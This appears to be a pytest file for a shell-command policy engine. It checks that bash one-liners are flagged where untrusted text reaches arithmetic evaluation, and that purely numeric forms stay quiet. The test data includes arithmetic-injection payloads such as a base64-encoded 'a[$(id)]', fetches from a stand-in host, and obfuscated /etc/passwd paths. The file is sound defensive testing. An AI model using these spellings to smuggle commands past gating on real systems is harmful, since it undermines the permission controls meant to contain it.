"""Twentieth pass, left20: the bypasses and strict xfails the last pass left open
(docs/policy.md, "Leftover bypasses and strict xfails (twentieth pass, left20)").

Each class is proved by fresh spellings that ran quiet (or at a plain yes) before, with
the dangerous siblings typed and the routine forms beside them where they were.
"""

from __future__ import annotations

import pytest
from helpers.policy_corpus import assert_gated_typed, assert_level, rules_of

from aiperm_tui.policy import PolicyEngine

# A function's arguments (or `set`'s words) reach arithmetic in its body: bash evaluates
# `a[$(cmd)]` in the text it is handed.
POSITIONAL_TEXT = [
    'f(){ echo $(( $1 )); }; f "$(cat /tmp/x)"',
    'f() { echo "${a[$1]}"; }; f "$X"',
    'f() { [[ $1 -gt 0 ]]; }; read -r v < /tmp/x; f "$v"',
    'function g { let "n=$2"; }; g 1 "$(curl -s https://x.example/n)"',
    'f() { local n=${1}; echo $((n+1)); }; f "$(base64 -d <<< YVskKGlkKV0=)"',
    'f() { (( $@ )); }; for w in $(cat /tmp/l); do f "$w"; done',
    'f() { printf -v "$1" 1; }; f "$(cat /tmp/x)"',
    'inner() { echo $(( $1 )); }; outer() { inner "$1"; }; outer "$(cat /tmp/x)"',
    "set -- $(cat /tmp/x); (( $1 ))",
    'set -- "$(cat /tmp/x)"; echo $(( $1 + 1 ))',
    'set -e -- "$(curl -s https://x.example/n)"; echo ${s:$1}',
    # a value read from the account list (GECOS is the user's to write with chfn)
    "x=$(cut -d: -f5 /etc/passwd); (( x ))",
    "read -r n < /etc/passwd; (( n ))",
    "n=$(head -1 /etc/passwd-); echo $((n))",
    "x=$(cut -d: -f5 /etc//passwd); (( x ))",
    "x=$(cut -d: -f5 /etc/./passwd); (( x ))",
    "x=$(cut -d: -f5 /etc/pass[w]d); (( x ))",
    "x=$(cut -d: -f5 /etc/pass{w,}d); echo $((x))",
    'read -r n < /etc/pass""wd; (( n ))',
    "x=$(tail -1 /etc/p*d); echo $((x))",
    "while IFS=: read -r name _ uid gid gecos _; do (( gecos )); done < /etc/passwd",
    "while IFS=: read -r a b c; do (( c )); done < /etc/passwd",
    "while read -r uid; do (( uid )); done < /etc/passwd",
    "x=$(cut -d: -f3- /etc/passwd); (( x ))",
    "x=$(cut -d: -f1-6 /etc/passwd); (( x ))",
    "x=$(cut -d: -f3 --complement /etc/passwd); (( x ))",
    "x=$(cut -d, -f3 /etc/passwd); (( x ))",
]
# Numbers stay numbers: a function called with literals or counts, `set -e`, the line's
# own words, the root-written files beside the account list.
POSITIONAL_QUIET = [
    "f() { echo $(( $1 * 2 )); }; f 3",
    "f() { (( $# > 1 )) && echo many; }; f a b",
    'f() { echo $(( $1 + 1 )); }; f "$(wc -l < /etc/hosts)"',
    "set -euo pipefail; echo $(( 2 + 3 ))",
    "set -- 4 5; echo $(( $1 + $2 ))",
    "n=$(cat /proc/sys/kernel/pid_max); echo $((n))",
    "read -r n < /etc/hostname; echo $((n))",
    # the account list's other fields are root's (chfn refuses `:` in the GECOS field)
    "x=$(cut -d: -f3 /etc/passwd); (( x > 999 ))",
    "x=$(cut -f 3,4 -d : /etc/passwd); echo $(( x ))",
    "while IFS=: read -r name _ uid _; do (( uid >= 1000 )) && echo $name; done < /etc/passwd",
]


@pytest.mark.parametrize("cmd", POSITIONAL_TEXT)
def test_text_reaching_arithmetic_through_the_positional_words_is_typed(
    engine: PolicyEngine, cmd: str
) -> None:
    assert_gated_typed(engine, cmd)
    assert "exec.arithmetic_text" in rules_of(engine, cmd)


@pytest.mark.parametrize("cmd", POSITIONAL_QUIET)
def test_numbers_in_the_positional_words_stay_quiet(engine: PolicyEngine, cmd: str) -> None:
    assert "exec.arithmetic_text" not in rules_of(engine, cmd)
